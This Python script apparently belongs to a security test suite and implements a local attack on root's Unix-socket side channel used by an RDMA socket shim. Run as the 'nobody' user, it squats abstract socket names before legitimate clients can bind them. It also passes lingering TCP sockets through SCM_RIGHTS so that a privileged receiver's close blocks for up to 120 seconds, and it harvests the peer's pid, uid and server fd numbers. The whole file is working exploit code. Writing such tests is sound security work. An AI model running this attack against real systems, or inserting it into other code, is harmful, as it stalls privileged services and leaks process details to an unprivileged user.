#!/usr/bin/env python3
"""A local user (run as `nobody`) against root's same-host side channel (side_channel_squatters.sh).

  side_channel_squatter.py calibrate
        arms one lingering TCP socket with SO_LINGER {1,2} and times its own last close: prints
        "calibrated: close waited S s" (the attack is real only if that close waited)
  side_channel_squatter.py offer INODE
        connects to the side channel a client's shim published for TCP socket INODE (the names are
        listed in /proc/net/unix) and sends a well-formed OFFER whose SCM_RIGHTS payload is a
        lingering TCP socket (unsent bytes to a zero window, SO_LINGER {1,120}), then closes its
        own copy: whoever closes the received fd last waits up to 120 s. If the fd is refused
        (EPERM: SO_PASSRIGHTS), sends the OFFER alone.
  side_channel_squatter.py squat INODE
        binds that name first (before the client can), and answers whoever connects with an
        ACCEPT carrying three lingering sockets, sent at once without waiting for an OFFER; then
        reports whether an OFFER (the server's pid and fd number) came.
Prints one status line per step; then stays alive (its zero-window listeners must live) until killed.
"""
import array
import socket
import struct
import sys
import time

from lingering_socket import lingering  # (this folder)

MAGIC, VERSION = 0x32565352, 2
KEEP = []


def say(*a):
    print(*a, flush=True)


def wire(kind, claimed_fd):
    return struct.pack("<IHBBiIQ", MAGIC, VERSION, kind, 0, claimed_fd, 0, 1 << 16)


def send_with_fds(s, data, socks):
    fds = array.array("i", [x.fileno() for x in socks])
    try:
        s.sendmsg([data], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, fds)])
        return "ok"
    except OSError as e:
        return e.__class__.__name__ + "/" + (e.strerror or str(e.errno))


def name(inode):
    return b"\0rdmasock/v2/tcp-inode/%d" % inode


def linger_forever():
    while True:
        time.sleep(60)


mode = sys.argv[1]
if mode == "calibrate":
    c = lingering(2)
    t = time.monotonic()
    c.close()
    say(f"calibrated: close waited {time.monotonic() - t:.1f} s")
    sys.exit(0)

inode = int(sys.argv[2])
if mode == "offer":
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        s.connect(name(inode))
    except OSError as e:
        say(f"no-side-channel ({e.strerror})")
        linger_forever()
    bait = lingering(120)
    r = send_with_fds(s, wire(1, 3), [bait])
    say(f"offer with a lingering socket: {r}")
    if r != "ok":
        say(f"offer alone: {send_with_fds(s, wire(1, 3), [])}")
    if r == "ok":
        bait.close()  # not the last reference while the fd is in flight: ours does not wait
    else:
        KEEP.append(bait)  # our close would be the last one, and wait
    say("armed")
    s.settimeout(60)
    try:
        b = s.recv(64)
        say("side channel closed" if b == b"" else f"reply {b!r}")
    except OSError as e:
        say(f"side channel: {e.__class__.__name__}")
    linger_forever()

if mode == "squat":
    ls = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    ls.bind(name(inode))
    ls.listen(4)
    baits = [lingering(120) for _ in range(3)]
    say("bound")
    ls.settimeout(60)
    try:
        c, _ = ls.accept()
    except socket.timeout:
        say("nobody connected")
        linger_forever()
    c.setsockopt(socket.SOL_SOCKET, socket.SO_PASSCRED, 1)
    creds = c.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, struct.calcsize("3i"))
    pid, uid, _ = struct.unpack("3i", creds)
    say(f"connected by pid {pid} uid {uid}")
    r = send_with_fds(c, wire(2, 3), baits)
    say(f"accept with three lingering sockets: {r}")
    if r == "ok":
        for b in baits:
            b.close()  # in flight: the receiver holds the last reference
    else:
        KEEP.extend(baits)
    c.settimeout(5)
    try:
        msg = c.recv(24)
    except OSError:
        msg = b""
    if len(msg) == 24:
        _, _, kind, _, fd, _, ring = struct.unpack("<IHBBiIQ", msg)
        say(f"offer: got one (type {kind}, the server's fd {fd}, ring {ring})")
    else:
        say(f"offer: none ({len(msg)} bytes)")
    linger_forever()
